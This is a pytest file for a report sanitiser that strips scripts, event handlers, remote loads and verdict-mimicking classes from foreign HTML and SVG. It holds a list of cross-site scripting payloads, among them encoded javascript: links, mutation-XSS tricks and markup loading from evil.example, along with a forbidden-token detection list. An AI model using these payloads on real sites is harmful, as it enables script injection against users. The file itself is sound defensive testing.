"""Each of the two cleanings holds alone: nothing in a report runs, loads, or dresses up as a verdict."""

from __future__ import annotations

import pytest
from runbook.report.sanitise import clean_foreign, clean_notebook, svg_image

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import url("https://evil.example/x.css")</style>',
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<form action="https://evil.example"><input name="x"><button formaction="https://evil.example">x</button></form>',
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>',
    '<img srcset="https://evil.example/x.png 2x" src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
FORBIDDEN = ("<script", "onerror=", "onload=", "javascript:", "<link", "<style", "<iframe", "<object", "<embed", "<svg",
             "<meta", "<base", "<form", "<input", "<button", "style=", "<video", "srcset", "formaction",
             'src="http', "data:text/html", "data:image/svg")  # fmt: skip


@pytest.mark.parametrize("clean", [clean_foreign, clean_notebook])
@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_nothing_that_runs_or_loads(clean, attack: str) -> None:
    cleaned = clean(f"<p>before</p>{attack}<p>after</p>").lower()
    assert "before" in cleaned
    # As markup: the same words may stand as text, with their brackets escaped.
    assert [word for word in FORBIDDEN if word in cleaned.replace("&lt;", "")] == []


def test_picture_from_elsewhere_becomes_text() -> None:
    assert clean_foreign('<img src="https://x.example/a.png" alt="a plan">') == (
        '<span class="rb-note">[picture not kept: a plan]</span>'
    )


def test_embedded_picture_stays_and_gets_an_alternative_text() -> None:
    assert clean_foreign('<img src="data:image/png;base64,AAAA">') == (
        '<img alt="Picture without a description" src="data:image/png;base64,AAAA"/>'
    )


@pytest.mark.parametrize("foreign", ["verdict", "top is-pass", "word", "skip"])
def test_output_cannot_take_the_classes_or_addresses_of_the_verdict(foreign: str) -> None:
    assert clean_foreign(f'<div class="{foreign}" id="verdict">PASS</div>') == "<div>PASS</div>"
    assert clean_notebook(f'<div class="{foreign}" id="verdict">PASS</div>') == "<div>PASS</div>"


def test_table_of_pandas_gets_scopes_and_a_scroll_region() -> None:
    html = (
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>rows</th></tr></thead>'
        "<tbody><tr><th>0</th><td>12</td></tr></tbody></table>"
    )
    assert clean_foreign(html) == (
        '<div aria-label="Table" class="rb-scroll" role="group" tabindex="0"><table><thead><tr><td></td>'
        '<th scope="col">rows</th></tr></thead><tbody><tr><th scope="row">0</th><td>12</td></tr></tbody></table></div>'
    )


def test_svg_becomes_an_image_without_scripts_handlers_and_addresses() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="a()">'
        "<title>Sizes</title><script>alert(1)</script><style>@import url(https://evil.example/x.css);</style>"
        '<a xlink:href="https://evil.example"><text>x</text></a><use xlink:href="https://evil.example/#a"/>'
        '<image href="https://evil.example/x.png"/><foreignObject><p>x</p></foreignObject><rect onclick="a()" width="9"/>'
        "</svg>"
    )
    image = svg_image(svg, "unused")
    assert image is not None
    assert image.startswith('<img class="picture" alt="Sizes" src="data:image/svg+xml,')
    for word in ("script", "onload", "onclick", "evil.example", "foreignObject"):
        assert word not in image
    assert "rect" in image


@pytest.mark.parametrize("broken", ["", "<svg", "<html/>", '<!DOCTYPE x [<!ENTITY a "b">]><svg>&a;</svg>'])
def test_what_is_no_svg_is_none(broken: str) -> None:
    assert svg_image(broken, "x") is None
